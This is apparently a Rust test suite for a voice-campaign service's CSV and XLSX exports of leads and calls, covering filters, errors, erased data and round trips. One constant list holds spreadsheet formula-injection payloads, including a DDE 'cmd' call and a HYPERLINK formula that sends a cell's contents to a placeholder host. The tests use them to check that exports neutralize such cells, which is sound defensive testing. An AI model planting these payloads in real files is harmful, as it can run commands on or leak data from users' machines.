//! Leads and calls as tables: the same rows as the lists, nothing a spreadsheet would run, and back again.

use crate::support::{Answer, Options, TestServer};
use calamine::{Data, Reader, Xlsx};
use chrono::TimeDelta;
use proptest::prelude::*;
use serde_json::{Map, Value, json};
use std::io::Cursor;
use voice_campaigns::domain::outcome::Outcome;
use voice_campaigns::domain::phone::Phone;

const LEADS: &str = "/api/voice-campaigns/1/leads";
const LEADS_EXPORT: &str = "/api/voice-campaigns/1/leads/export";
const CALLS_EXPORT: &str = "/api/voice-campaigns/1/calls/export";

/// The rows of a CSV text.
fn rows(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// One column of a CSV text, without its title.
fn column(text: &str, title: &str) -> Vec<String> {
    let rows = rows(text);
    let position = rows[0].iter().position(|name| name == title).unwrap();
    rows[1..].iter().map(|row| row[position].clone()).collect()
}

fn export(server: &TestServer, path: &str) -> Answer {
    let answer = server.get(path).send();
    assert_eq!(answer.status, 200, "{}", answer.body);
    answer
}

/// The cells of the only sheet of a workbook; all must be texts.
fn cells(workbook: Vec<u8>) -> Vec<Vec<String>> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(workbook)).unwrap();
    let sheet = workbook.worksheet_range_at(0).unwrap().unwrap();
    let text = |cell: &Data| match cell {
        Data::Empty => String::new(),
        Data::String(text) => text.clone(),
        other => panic!("{other:?} is no text"),
    };
    sheet.rows().map(|row| row.iter().map(text).collect()).collect()
}

#[test]
fn leads_come_with_a_column_for_every_variable_and_what_became_of_them() {
    let server = TestServer::start();
    server.campaign(json!({"status": "active"}));
    let ada = json!({
        "phone": "+1 (202) 555-0101", "first_name": "Ada", "last_name": "Lovelace", "email": "ada@example.com",
        "company_name": "Engines, Ltd", "time_zone": "Europe/London", "language": "en-GB", "priority": 5,
        "best_time_to_call": "10:30", "variables": {"Plan": "gold", "order": 7, "notes": "a variable"},
        "notes": "two\nlines", "tags": ["vip", "uk"]
    });
    server.post(LEADS, &ada).send().expect(201);
    server
        .post(LEADS, &json!({"phone": "+12025550102", "variables": {"plan": "b;c", "on": true}}))
        .send()
        .expect(201);
    let call = server.place_call(1);
    server.clock.advance(TimeDelta::seconds(30));
    server.end_call(call, Outcome::Success, Some(20));
    let answer = export(&server, LEADS_EXPORT);
    assert_eq!(answer.header("Content-Type"), Some("text/csv; charset=utf-8"));
    assert_eq!(answer.header("Content-Disposition"), Some("attachment; filename=\"leads-1.csv\""));
    assert_eq!(answer.header("Cache-Control"), Some("no-store"));
    assert_eq!(
        answer.body,
        "phone,first_name,last_name,email,company_name,time_zone,language,priority,best_time_to_call,notes,tags,\
         Plan,order,variables.notes,on,id,status,outcome,attempts,next_call_at,import_id,created_at,updated_at\r\n\
         +12025550101,Ada,Lovelace,ada@example.com,\"Engines, Ltd\",Europe/London,en-GB,5,10:30:00,\"two\nlines\",\
         \"vip;uk\",gold,7,a variable,,1,completed,success,1,,,2026-03-04T10:00:00Z,2026-03-04T10:00:30Z\r\n\
         +12025550102,,,,,,,3,,,,\"b;c\",,,true,2,pending,,0,2026-03-04T10:00:00Z,,2026-03-04T10:00:00Z,\
         2026-03-04T10:00:00Z\r\n"
    );
    let marked = export(&server, &format!("{LEADS_EXPORT}?bom=true&format=csv"));
    assert_eq!(marked.body, format!("\u{FEFF}{}", answer.body));
}

#[test]
fn calls_come_newest_first_with_their_outcome() {
    let server = TestServer::start();
    server.campaign(json!({"status": "active", "cost_per_call": 0.25}));
    let lead = server.lead(1, "+12025550101");
    let call = server.place_call(lead);
    server.clock.advance(TimeDelta::seconds(30));
    server.end_call(call, Outcome::Success, Some(20));
    let other = server.campaign(json!({"status": "active"}));
    let lead = server.lead(other, "+12025550102");
    server.place_call(lead);
    let title = "id,campaign_id,lead_id,attempt,phone,carrier,state,outcome,successful,detail,placed_at,answered_at,\
                 ended_at,seconds,cost,recording_seconds,conclusion,answers,call_back_at\r\n";
    let first = "1,1,1,1,+12025550101,simulator,ended,success,true,,2026-03-04T10:00:00Z,2026-03-04T10:00:10Z,\
                 2026-03-04T10:00:30Z,20,0.25,,,,\r\n";
    let second = "2,2,2,1,+12025550102,simulator,placed,,,,2026-03-04T10:00:30Z,,,,0,,,,\r\n";
    assert_eq!(export(&server, CALLS_EXPORT).body, format!("{title}{first}"));
    let all = export(&server, "/api/calls/export");
    assert_eq!(all.body, format!("{title}{second}{first}"));
    assert_eq!(all.header("Content-Disposition"), Some("attachment; filename=\"calls.csv\""));
    for (query, expected) in [
        ("outcome=success", first),
        ("campaign_id=2", second),
        ("lead_id=1", first),
        ("outcome=busy", ""),
        ("lead_id=1&campaign_id=2", ""),
    ] {
        let answer = export(&server, &format!("/api/calls/export?{query}"));
        assert_eq!(answer.body, format!("{title}{expected}"), "{query}");
    }
}

#[test]
fn an_export_takes_the_filters_of_its_list() {
    let server = TestServer::start();
    server.campaign(json!({"status": "active"}));
    let leads: Value = (0..2_500)
        .map(|n| json!({"phone": format!("+1202{:07}", 2_000_000 + n), "last_name": format!("L{}", n % 3)}))
        .collect();
    server.post(LEADS, &leads).send().expect(201);
    let call = server.place_call(7);
    server.end_call(call, Outcome::Busy, None);
    for (query, count) in [
        ("", 2_500),
        ("status=pending", 2_499),
        ("status=scheduled&outcome=busy", 1),
        ("status=completed", 0),
        ("search=L1", 833),
        ("search=%2B12022000007", 1),
        ("import_id=9", 0),
    ] {
        let exported = column(&export(&server, &format!("{LEADS_EXPORT}?{query}")).body, "id");
        let mut listed = Vec::new();
        let mut path = format!("{LEADS}?limit=1000&{query}");
        loop {
            let page = server.get(&path).send();
            listed.extend(page.expect(200).as_array().unwrap().iter().map(|lead| lead["id"].to_string()));
            match page.header("Link") {
                Some(link) => path = link.split(['<', '>']).nth(1).unwrap().to_owned(),
                None => break,
            }
        }
        assert_eq!((exported.len(), exported), (count, listed), "{query}");
    }
}

#[test]
fn a_wrong_request_for_an_export_is_told_before_anything_is_sent() {
    let server = TestServer::start();
    server.campaign(json!({}));
    for (path, message) in [
        ("?format=pdf", "format: must be one of `csv`, `xlsx`; it is `pdf`"),
        ("?fromat=csv", "fromat: unknown parameter; did you mean `format`?"),
        ("?format=xlsx&bom=true", "bom: is for `format=csv` only; leave it out"),
        ("?limit=5", "limit: unknown parameter"),
        (
            "?status=happy",
            "status: must be one of `pending`, `in_progress`, `scheduled`, `completed`, `failed`, `canceled`, `do_not_call`; it is `happy`",
        ),
    ] {
        assert_eq!(server.get(&format!("{LEADS_EXPORT}{path}")).send().error(400), message);
    }
    for path in ["/api/voice-campaigns/9/leads/export", "/api/voice-campaigns/x/calls/export"] {
        assert_eq!(server.get(path).send().error(404), "Voice campaign not found");
    }
    let head = server.request("HEAD", LEADS_EXPORT).token(crate::support::READER).send();
    assert_eq!((head.status, head.body.as_str()), (200, ""));
}

#[test]
fn an_export_that_cannot_be_written_is_an_error_and_not_half_a_table() {
    let mut options = Options::default();
    options.settings.spool_dir = "/nowhere/at/all".into();
    let server = TestServer::start_with(options);
    server.campaign(json!({}));
    for format in ["csv", "xlsx"] {
        let answer = server.get(&format!("{LEADS_EXPORT}?format={format}")).send();
        assert_eq!(answer.error(500), "Failed to fetch leads");
    }
}

#[test]
fn leads_with_more_variables_than_a_table_has_columns_are_not_cut() {
    let server = TestServer::start();
    server.campaign(json!({}));
    let lead = |number: usize| {
        let variables: Map<String, Value> =
            (0..100).map(|n| (format!("v{number}_{n}"), "x".into())).collect();
        json!({"phone": format!("+1202555{:04}", 100 + number), "variables": variables})
    };
    let leads: Value = (0..11).map(lead).collect();
    server.post(LEADS, &leads).send().expect(201);
    assert_eq!(
        server.get(LEADS_EXPORT).send().error(400),
        "import_id: the leads have more than 1000 different variables; export fewer at a time"
    );
    let few = export(&server, &format!("{LEADS_EXPORT}?search=%2B12025550101"));
    assert_eq!(rows(&few.body)[1].iter().filter(|cell| *cell == "x").count(), 100);
}

#[test]
fn what_was_deleted_or_erased_does_not_leave() {
    let server = TestServer::start();
    server.campaign(json!({"status": "active"}));
    let (deleted, erased) = (server.lead(1, "+12025550101"), server.lead(1, "+12025550102"));
    let call = server.place_call(erased);
    server.end_call(call, Outcome::Busy, None);
    assert_eq!(server.delete(&format!("/api/leads/{deleted}")).send().status, 204);
    let database =
        rusqlite::Connection::open(voice_campaigns::store::data_file(server.folder.path())).unwrap();
    let nobody = Phone::erased(erased).to_string();
    database.execute("UPDATE leads SET phone = ?1, first_name = NULL, erased_at = 1", [&nobody]).unwrap();
    database.execute("UPDATE calls SET phone = ?1", [&nobody]).unwrap();
    let leads = export(&server, LEADS_EXPORT).body;
    assert_eq!(
        (column(&leads, "id"), column(&leads, "phone")),
        (vec![erased.to_string()], vec![String::new()])
    );
    assert_eq!(column(&export(&server, CALLS_EXPORT).body, "phone"), [""]);
}

/// Cells that spreadsheets run, or that break a table, from lists that testers use.
const UGLY: [&str; 18] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com?x=\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    "''",
    "'",
    "a;=1+1",
    "a\t=1+1",
    "a|=1+1",
    "a,\"=1+1",
    "two\r\n=1+1",
    "\"",
    "{first_name}",
    "\u{202E}👩🏽‍💻",
];

#[test]
fn nothing_that_a_spreadsheet_would_run_leaves_and_everything_comes_back() {
    let server = TestServer::start();
    server.campaign(json!({}));
    let lead = |(index, text): (usize, &&str)| {
        json!({"phone": format!("+1202555{:04}", 100 + index), "first_name": text, "last_name": text,
               "company_name": text, "notes": text, "variables": {"x": text, "=1+1": "y"}})
    };
    let leads: Value = UGLY.iter().enumerate().map(lead).collect();
    server.post(LEADS, &leads).send().expect(201);
    let text = export(&server, LEADS_EXPORT).body;
    for row in rows(&text) {
        for (position, cell) in row.iter().enumerate() {
            let is_number = position == 0 && cell[1..].bytes().all(|byte| byte.is_ascii_digit());
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝']) || is_number, "{cell}");
        }
    }
    for line in text.split("\r\n").filter(|line| !line.contains('"')) {
        assert!(!line.contains([';', '\t', '|']), "{line} could be cut elsewhere");
    }
    assert_eq!(back_again(&server), listed(&server, 1));
}

/// What a person said about the leads of a campaign.
fn listed(server: &TestServer, campaign: i64) -> Vec<Map<String, Value>> {
    let answer = server.get(&format!("/api/voice-campaigns/{campaign}/leads?limit=1000")).send().expect(200);
    let said = |lead: &Value| {
        let mut said = lead.as_object().unwrap().clone();
        let made = ["id", "campaign_id", "import_id", "created_at", "updated_at", "next_call_at", "hold"];
        said.retain(|name, _| !made.contains(&name.as_str()));
        said
    };
    answer.as_array().unwrap().iter().map(said).collect()
}

/// The leads of campaign 1, exported and imported into a new one.
fn back_again(server: &TestServer) -> Vec<Map<String, Value>> {
    let table = export(server, LEADS_EXPORT).body;
    let other = server.campaign(json!({}));
    let path = format!("/api/voice-campaigns/{other}/leads");
    let request = server.request("POST", &path).token(crate::support::WRITER);
    let report = request.body("text/csv", table.as_bytes()).send();
    assert!([200, 201].contains(&report.status), "{}", report.body);
    listed(server, other)
}

#[test]
fn variables_with_the_names_of_columns_keep_them_on_the_way_back() {
    let server = TestServer::start();
    server.campaign(json!({}));
    let variables = json!({"status": "gold", "notes": "n", "Phone": "p", "variables.x": "v", "id": "7"});
    server.post(LEADS, &json!({"phone": "+12025550101", "variables": variables})).send().expect(201);
    assert_eq!(back_again(&server), listed(&server, 1));
    let other = server.request("POST", LEADS).token(crate::support::WRITER);
    other.body("text/csv", b"phone,status,variables.x\n+12025550102,gold,v").send().expect(201);
    let lead = &server.get(&format!("{LEADS}?search=0102")).send().expect(200)[0];
    assert_eq!(
        lead["variables"],
        json!({"status": "gold", "variables.x": "v"}),
        "a table of somebody else's"
    );
}

#[test]
fn a_workbook_has_the_cells_of_the_text() {
    let server = TestServer::start();
    server.campaign(json!({"status": "active"}));
    let lead = |(index, text): (usize, &&str)| json!({"phone": format!("+1202555{:04}", 100 + index), "first_name": text, "variables": {"x": text, "n": 5}});
    // A lone line feed stands in a workbook for any line end.
    let leads: Value = UGLY.iter().filter(|text| !text.contains('\r')).enumerate().map(lead).collect();
    server.post(LEADS, &leads).send().expect(201);
    let call = server.place_call(1);
    server.end_call(call, Outcome::Busy, None);
    for path in [LEADS_EXPORT, CALLS_EXPORT, "/api/calls/export"] {
        let separator = if path.contains('?') { '&' } else { '?' };
        let (headers, workbook) = server.get(&format!("{path}{separator}format=xlsx")).send_for_bytes();
        let header =
            |name: &str| headers.iter().find(|(known, _)| known == name).map(|(_, value)| value.as_str());
        assert_eq!(
            header("content-type"),
            Some("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
        );
        assert!(header("content-disposition").unwrap().ends_with(".xlsx\""));
        assert_eq!(cells(workbook), rows(&export(&server, path).body), "{path}");
    }
}

/// Text as a person may write it into a cell: no blanks at its ends, which a table does not keep.
fn cell() -> impl Strategy<Value = String> {
    "\\PC{0,12}|['=+@;,|\"a -]{0,8}|[a-zé你\n\",;]{0,10}".prop_map(|text| text.trim().to_owned())
}

fn some_lead() -> impl Strategy<Value = Map<String, Value>> {
    let names =
        prop::sample::subsequence(vec!["plan", "City", "status", "notes", "=x", "größe", "a b"], 0..=7);
    let variables = names.prop_flat_map(|names| {
        let count = names.len();
        prop::collection::vec(cell(), count).prop_map(move |values| {
            let filled = names.iter().zip(values).filter(|(_, value)| !value.is_empty());
            filled.map(|(name, value)| ((*name).to_owned(), Value::from(value))).collect::<Map<_, _>>()
        })
    });
    let tags = prop::collection::vec("[a-z é=]{1,6}".prop_map(|tag| tag.trim().to_owned()), 0..3);
    (prop::collection::vec(cell(), 5), variables, tags, 1..=5_i64).prop_map(
        |(texts, variables, tags, priority)| {
            let mut lead = Map::new();
            for (name, text) in
                ["first_name", "last_name", "email", "company_name", "notes"].iter().zip(texts)
            {
                lead.insert((*name).to_owned(), Value::from(text));
            }
            let tags: Vec<String> = tags.into_iter().filter(|tag| !tag.is_empty()).collect();
            lead.insert("variables".into(), variables.into());
            lead.insert("tags".into(), tags.into());
            lead.insert("priority".into(), priority.into());
            lead
        },
    )
}

/// By number, because large tables go in sorted; and variables in any order.
fn sorted(mut leads: Vec<Map<String, Value>>) -> Vec<Map<String, Value>> {
    leads.sort_by_key(|lead| lead["phone"].to_string());
    for lead in &mut leads {
        lead["variables"].as_object_mut().unwrap().sort_keys();
    }
    leads
}

#[test]
fn leads_that_are_exported_and_imported_are_the_same_leads() {
    let mut runner = proptest::test_runner::TestRunner::new(ProptestConfig {
        cases: 24,
        failure_persistence: None,
        ..ProptestConfig::default()
    });
    runner
        .run(&prop::collection::vec(some_lead(), 1..12), |leads| {
            let server = TestServer::start();
            server.campaign(json!({}));
            let leads: Value = leads
                .into_iter()
                .enumerate()
                .map(|(index, mut lead)| {
                    lead.insert("phone".into(), format!("+1202555{:04}", 100 + index).into());
                    Value::Object(lead)
                })
                .collect();
            server.post(LEADS, &leads).send().expect(201);
            prop_assert_eq!(sorted(back_again(&server)), sorted(listed(&server, 1)));
            Ok(())
        })
        .unwrap();
}
